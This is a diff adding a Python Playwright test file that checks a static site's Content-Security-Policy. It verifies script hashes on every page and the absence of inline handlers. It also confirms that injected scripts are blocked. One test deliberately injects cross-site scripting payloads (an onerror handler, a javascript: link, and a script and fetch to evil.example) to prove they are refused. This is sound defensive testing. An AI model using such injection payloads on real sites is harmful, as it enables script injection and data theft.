@@ -1,0 +1,109 @@
+"""The policy of the pages: scripts that were not built into them do not run, no host is asked."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, Page
+
+from generator.site.publish.policy import guarded, hash_of, inline, policy
+
+KINDS = (
+    *("", "guide/", "situationer/kulorsvigt/", "sager/", "paragraffer/", "paragraffer/27/"),
+    *("sammenlign/", "traening/", "vaerktoejer/", "ordliste/", "download/", "bidrag/", "om/"),
+    *("bedoemmelser/", "ikke-her/"),
+)
+PAGE = (
+    '<!doctype html><html><head><meta charset="utf-8"><title>x</title>'
+    "<script>let here = 1</script><script src=x.js></script>"
+    '<script type="application/ld+json">{"a": 1}</script></head><body>{}</body></html>'
+)
+
+
+def test_a_page_names_the_scripts_that_stand_in_it_and_no_others() -> None:
+    page = guarded(PAGE)
+    assert [*inline(PAGE)] == ["let here = 1"]
+    (content,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)
+    assert page.index("charset") < page.index("Content-Security") < page.index("<script")
+    assert f"script-src 'self' '{hash_of('let here = 1')}';" in content
+    assert "http" not in content
+    scripts = next(rule for rule in content.split(";") if rule.startswith("script-src"))
+    assert "unsafe" not in scripts
+    assert "data:" not in scripts
+    assert content == policy(page), "the same whoever reads it"
+    assert guarded("<html><head><title>x</title></head></html>").startswith(
+        '<html><head><meta http-equiv="Content-Security-Policy"'
+    )
+
+
+def test_the_hash_is_that_of_the_standard() -> None:
+    """The example of the specification of Content Security Policy, level 3."""
+    expected = "sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng="
+    assert hash_of("alert('Hello, world.');") == expected
+
+
+def test_every_page_of_the_site_has_its_policy(site: Path) -> None:
+    pages = sorted(site.rglob("*.html"))
+    assert len(pages) > 500
+    for file in pages:
+        text = file.read_text("utf-8")
+        found = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', text)
+        assert found == [policy(text)], file
+        assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", text), f"{file} has a handler"
+
+
+WATCH = """addEventListener("securitypolicyviolation", (e) =>
+  (window.stopped ??= []).push(e.effectiveDirective + " " + e.blockedURI + " " + e.sourceFile))"""
+
+
+@pytest.fixture
+def watched(browser: Browser, address: str) -> Iterator[Page]:
+    context = browser.new_context(base_url=address, service_workers="block")
+    context.add_init_script(WATCH)
+    yield context.new_page()
+    context.close()
+
+
+@pytest.mark.browser
+def test_nothing_of_our_own_is_stopped_by_it(watched: Page) -> None:
+    stopped: dict[str, object] = {}
+    for kind in KINDS:
+        watched.goto(f"/{kind}")
+        watched.evaluate("scrollTo(0, document.body.scrollHeight)")
+        watched.wait_for_timeout(200)
+        if found := watched.evaluate("window.stopped || []"):
+            stopped[kind] = found
+    assert stopped == {}
+
+
+@pytest.mark.browser
+def test_a_script_that_is_got_into_a_page_is_not_run_and_no_other_host_is_asked(
+    watched: Page,
+) -> None:
+    failed: list[str | None] = []
+    watched.on("requestfailed", lambda request: failed.append(request.failure))
+    watched.goto("/situationer/kulorsvigt/")
+    watched.evaluate(
+        """() => {
+          const script = document.createElement("script");
+          script.textContent = "window.hacked = 1";
+          document.body.append(script);
+          const box = document.createElement("div");
+          box.innerHTML = '<img src=x: onerror="window.hacked = 2"><img src="https://evil.example/">'
+            + '<a href="javascript:window.hacked = 3">x</a>';
+          document.body.append(box);
+          box.querySelector("a").click();
+          const far = document.createElement("script");
+          far.src = "https://evil.example/x.js";
+          document.body.append(far);
+          fetch("https://evil.example/").catch(() => 0);
+        }"""
+    )
+    watched.wait_for_timeout(500)
+    assert watched.evaluate("window.hacked") is None
+    assert len(watched.evaluate("window.stopped")) >= 5
+    assert failed
+    assert {*failed} == {"csp"}, "refused by the page, not by the net"
